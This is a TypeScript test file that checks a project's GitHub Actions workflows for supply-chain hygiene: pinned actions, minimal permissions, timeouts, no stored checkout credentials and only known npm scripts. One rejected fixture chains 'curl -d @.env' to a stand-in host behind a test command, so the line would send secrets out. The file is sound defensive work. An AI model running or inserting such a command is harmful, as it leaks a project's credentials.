import { globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ROOT } from '../servers/local-directory.ts';
import { objectionsTo } from './objections.ts';

const { scripts } = JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as {
  scripts: Record<string, string>;
};
const known = new Set(Object.keys(scripts));
const files = globSync('.github/workflows/*.yml', { cwd: ROOT });

const PIN = 'actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8';
const workflow = (step: string, job = 'permissions: {}', top = 'permissions: {}') =>
  `${top}\njobs:\n  test:\n    timeout-minutes: 5\n    ${job}\n    steps:\n      - ${step}\n`;

describe('the workflows', () => {
  it('are some', () => {
    expect(files.length).toBeGreaterThan(3);
  });

  it.each(files)('run what runs here as well, with as little power as they need: %s', (file) => {
    expect(objectionsTo(readFileSync(join(ROOT, file), 'utf8'), known)).toEqual([]);
  });
});

describe('a workflow is refused', () => {
  it.each([
    ['that runs what is no script', workflow('run: npx vitest run')],
    ['that runs a script that is not there', workflow('run: npm run everything')],
    ['that runs more behind a script', workflow('run: npm test && curl -d @.env example.test')],
    ['with an action by its tag', workflow('uses: actions/setup-node@v5')],
    ['with an action of no version', workflow(`uses: actions/setup-node@${'a'.repeat(40)}`)],
    ['that leaves credentials in the checkout', workflow(`uses: ${PIN} # v5.0.0`)],
    ['whose jobs may what all may', workflow('run: npm ci', 'permissions: {}', 'permissions: { contents: write }')],
    ['whose job says nothing of permissions', workflow('run: npm ci', 'name: test')],
    ['that may hang', 'permissions: {}\njobs:\n  test:\n    permissions: {}\n    steps: []\n'],
  ])('%s', (_, text) => {
    expect(objectionsTo(text, known)).toHaveLength(1);
  });

  it('and not one without any of that', () => {
    expect(objectionsTo(workflow('run: npm ci'), known)).toEqual([]);
  });
});
